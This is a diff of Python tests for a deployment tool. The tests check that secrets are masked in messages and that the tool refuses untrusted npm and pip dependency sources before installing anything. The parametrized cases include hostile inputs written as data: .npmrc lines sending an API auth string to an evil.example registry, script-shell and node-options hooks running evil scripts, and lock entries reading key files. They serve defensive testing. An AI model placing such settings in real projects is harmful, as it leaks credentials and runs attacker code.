@@ -2,23 +2,47 @@
 
 import hashlib
 import io
+import json
+import logging
 import os
 import sys
 import tarfile
-from collections.abc import Iterator
+import traceback
+from collections.abc import Iterator, Mapping
+from datetime import UTC, datetime
 from pathlib import Path
+from types import SimpleNamespace
+from typing import cast
 
 import pytest
+from prefect.logging import disable_run_logger
 from pytest_httpserver import HTTPServer
 from werkzeug import Request, Response
 
-from host.errors import SlipwayError, SourceError
+from deployments.place import Place
+from deployments.runtimes.layout import Installed, Layout
+from evidence.bundle import Bundle, Run
+from evidence.store import Store
+from gates.check import Outcome
+from gates.scans.security import Context, judge_scan
+from host.errors import ArtifactError, SlipwayError, SourceError, ToolError
+from host.home import Home
+from host.ports import free_port
 from host.virtual_environments import interpreter, make_venv
+from notify.outbox import GITHUB, INCOMING, Outbox
+from tasks import artifacts
+from tasks.scans.dependency import SCAN, scan_dependency
+from tasks.source.git import Source
 from tasks.source.locked_environments import fetch_wheels, locked_environment
+from tasks.source.node_packages import node_packages
+from tasks.source.workspace import Workspace
+from tasks.states import Completed, Failed
+from tests.tasks.scans.subjects import make_subject
 
 PYTHON = f"{sys.version_info.major}.{sys.version_info.minor}"
 CREDENTIAL = "slipway:the-canary-of-the-api-credential"
 SOME_HASH = "0" * 64
+INTEGRITY = "sha512-" + "A" * 86 + "=="
 
 
 @pytest.fixture
@@ -148,3 +172,172 @@ def test_a_lock_that_is_a_link_to_a_secret_is_not_read(home: Path, tree: Path) -
     with pytest.raises(SlipwayError, match="requirements.lock: .*a file, not a link") as refused:
         make_venv(tree / "venv", interpreter(PYTHON), lock, None, tree / "uv")
     assert "canary" not in str(refused.value)
+
+
+def test_a_secret_in_a_tools_words_is_masked_wherever_they_are_told(home: Path) -> None:
+    words = f"Invalid requirement: '{CREDENTIAL}' at https://me:the-canary-of-an-index@index.example/"
+    outbox = Outbox.of(Home(home))
+    outbox.put(GITHUB, "comment", {"text": words, "deep": [{"said": words}]})
+    outbox.write([("slack", "post", {"text": words})])
+    told = [
+        str(ToolError(words)),
+        f"{ToolError(words)}",
+        "".join(traceback.format_exception(ToolError(words))),
+        str(Failed(message=words).message),
+        str(Completed(message=words).message),
+        json.dumps([item.body for queue in (GITHUB, "slack") for item in outbox.due(queue)]),
+    ]
+    assert [text for text in told if "canary" in text] == []
+    assert all("Invalid requirement" in text for text in told)
+
+
+def test_what_arrived_is_kept_as_it_is(home: Path) -> None:
+    outbox = Outbox.of(Home(home))
+    outbox.put(INCOMING, "push", {"text": CREDENTIAL})
+    assert outbox.due(INCOMING)[0].body == {"text": CREDENTIAL}
+
+
+def test_a_secret_is_masked_on_a_page(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    pages: list[str] = []
+    monkeypatch.setattr(artifacts, "create_markdown_artifact", lambda page, **given: pages.append(page + str(given)))
+    monkeypatch.setattr(artifacts, "get_run_logger", logging.getLogger)
+    artifacts.show("ci", f"it said {CREDENTIAL}", CREDENTIAL)
+    assert len(pages) == 1 and "canary" not in pages[0]
+
+
+@pytest.mark.parametrize(
+    "line", ["--index-url https://index.example/", "-r other.lock", "x @ https://x.example/x.whl", "x"]
+)
+def test_a_commit_does_not_have_its_dependencies_accepted_unrun(home: Path, tmp_path: Path, line: str) -> None:
+    text = f"{line}\nflask==3.0.0 --hash=sha256:{SOME_HASH}\n"
+    nowhere = f"http://127.0.0.1:{free_port()}"  # accepted un-run is meant for this, and for nothing else
+    subject = make_subject(tmp_path, {"requirements.lock": text}, osv_url=nowhere)
+    check = scan_dependency(subject)
+    accepting = Context({}, {}, {"dependency": "no source of advisories here"}, {}, datetime.now(UTC))
+    judged = judge_scan(check, SCAN.rule, accepting)
+    assert (judged.outcome, "requirements.lock: line 1" in judged.reason) == (Outcome.NO_VERDICT, True)
+
+
+def test_a_source_that_is_away_is_still_accepted_unrun(home: Path, tmp_path: Path) -> None:
+    nowhere = f"http://127.0.0.1:{free_port()}"
+    subject = make_subject(tmp_path, {"requirements.lock": f"x==1 --hash=sha256:{SOME_HASH}\n"}, osv_url=nowhere)
+    accepting = Context({}, {}, {"dependency": "no source of advisories here"}, {}, datetime.now(UTC))
+    assert judge_scan(scan_dependency(subject), SCAN.rule, accepting).outcome is Outcome.ACCEPTED_UNRUN
+
+
+def npm_lock(**entry: object) -> dict[str, object]:
+    package = {"version": "1.0.0", "integrity": INTEGRITY, **entry}
+    packages = {"": {"dependencies": {"x": "^1.0.0"}}, "node_modules/x": package}
+    return {"lockfileVersion": 3, "packages": packages}
+
+
+def npm_folder(tree: Path, lock: object, settings: str = "", package: Mapping[str, object] | None = None) -> Path:
+    folder = tree / "frontend"
+    folder.mkdir()
+    (folder / "package.json").write_text(json.dumps({"dependencies": {"x": "^1.0.0"}, **(package or {})}))
+    (folder / "package-lock.json").write_text(json.dumps(lock))
+    (folder / ".npmrc").write_text(settings)
+    return folder
+
+
+def refused_by_npm(folder: Path, *words: str) -> None:
+    """Install the packages of a folder as `ci` does; it must be refused with these words before npm is run."""
+    source = Source("c" * 40, "1.0", "main", (), folder.parent / "source.tar")
+    workspace = Workspace(folder.parent.parent, source, folder.parent / "environment")
+    with disable_run_logger(), pytest.raises(SourceError) as refused:
+        node_packages(workspace, folder.parent, folder.name)
+    assert all(word in str(refused.value) for word in ("frontend/", *words)), refused.value
+    assert not list(folder.parent.parent.glob("node-packages-*"))
+
+
+@pytest.mark.parametrize(
+    ("entry", "word"),
+    [
+        ({"resolved": "git+ssh://git@evil.example/x.git#abc"}, "resolved: git+ssh://"),
+        ({"resolved": "file:../../../keys/prefect-auth"}, "resolved: file:"),
+        ({"resolved": "https://evil.example/x/-/x-1.0.0.tgz"}, "resolved: https://evil.example"),
+        ({"resolved": "https://evil.example@127.0.0.1/x-1.0.0.tgz"}, "resolved: "),
+        ({"resolved": "../x", "link": True}, "a folder of the commit"),
+        ({"integrity": ""}, "no integrity"),
+        ({"integrity": "md5-AAAA"}, "no integrity"),
+        ({"inBundle": True, "integrity": ""}, "no integrity"),
+        ({"version": "file:vendor/x.tgz"}, "version: file:vendor"),
+        ({"version": "git+https://evil.example/x.git"}, "version: git+https"),
+        ({"hasShrinkwrap": True}, "hasShrinkwrap is not accepted"),
+        ({"dependencies": {"y": "github:evil/y"}}, "y: github:evil/y is no version"),
+        ({"dependencies": {"y": "evil/y"}}, "y: evil/y is no version"),
+        ({"name": "../../evil"}, "name: ../../evil"),
+    ],
+)
+def test_a_lock_of_npm_names_packages_of_the_registry_alone(
+    home: Path, tree: Path, entry: dict[str, object], word: str
+) -> None:
+    refused_by_npm(npm_folder(tree, npm_lock(**entry)), "package-lock.json: node_modules/x", word)
+
+
+@pytest.mark.parametrize("place", ["packages/x", "../x", "node_modules/../../x", "node_modules/.bin/x", "/etc/x"])
+def test_a_lock_of_npm_does_not_lead_to_a_folder(home: Path, tree: Path, place: str) -> None:
+    lock = {"lockfileVersion": 3, "packages": {"": {}, place: {"version": "1.0.0", "integrity": INTEGRITY}}}
+    refused_by_npm(npm_folder(tree, lock), place, "a folder of the commit")
+
+
+@pytest.mark.parametrize(
+    ("package", "word"),
+    [
+        ({"workspaces": ["packages/*"]}, "workspaces"),
+        ({"dependencies": {"x": "git+file:///etc"}}, "x: git+file:"),
+        ({"devDependencies": {"x": "https://evil.example/x.tgz"}}, "x: https://evil"),
+        ({"optionalDependencies": {"x": "file:../.."}}, "x: file:"),
+        ({"overrides": {"y": {"x": "evil/x"}}}, "x: evil/x"),
+    ],
+)
+def test_a_package_json_asks_the_registry_alone(home: Path, tree: Path, package: dict[str, object], word: str) -> None:
+    refused_by_npm(npm_folder(tree, npm_lock(), package=package), "package.json", word)
+
+
+@pytest.mark.parametrize(
+    "setting",
+    [
+        "script-shell=./evil.sh",
+        "registry=https://evil.example/${PREFECT_API_AUTH_STRING}/",
+        "@x:registry = https://evil.example/",
+        "//evil.example/:_authToken=${PREFECT_API_AUTH_STRING}",
+        "git = ./evil.sh",
+        "node-options=--require ./evil.js",
+        "cafile=../../../keys/prefect-auth",
+        "globalconfig=./evil",
+        "ignore-scripts=false",
+        "prefix=/tmp",
+        "legacy-peer-deps=${X}",
+        "[section]",
+    ],
+)
+def test_the_settings_of_npm_are_not_the_apps(home: Path, tree: Path, setting: str) -> None:
+    name = setting.partition("=")[0].strip()
+    refused_by_npm(npm_folder(tree, npm_lock(), f"; a comment\nfund=false\n{setting}\n"), ".npmrc: line 3", name)
+
+
+@pytest.mark.parametrize("option", ["--no-binary evil\n--find-links {folder}", "-r {keys}", "-e {folder}"])
+def test_the_lock_of_an_artifact_is_read_again_at_a_release(home: Path, tree: Path, option: str) -> None:
+    canary = home / "canary"
+    digest = evil_source(tree / "vendor", canary)
+    store = Store(home / "store")
+    lock = tree / "requirements.lock"
+    words = option.format(folder=tree / "vendor", keys=home / "keys" / "prefect-auth")
+    lock.write_text(f"{words}\nevil==1.0 --hash=sha256:{digest}\n")
+    bundle = Bundle(
+        app="shop",
+        commit="c" * 40,
+        version="1",
+        python=PYTHON,
+        source="0" * 64,
+        lock=store.put_file(lock),
+        wheels={},
+        run=Run(command=("python",)),
+    )
+    place = cast(Place, SimpleNamespace(store=store, home=Home(home)))
+    installed = Installed("d" * 64, bundle, home / "installed")
+    installed.root.mkdir()
+    with pytest.raises(ArtifactError, match="artifact dddddddddddd: runtime.lock: line 1: an option") as refused:
+        Layout(place, runs_here=True)._make(installed, bundle.lock, {})
+    assert not canary.exists() and "canary" not in str(refused.value)
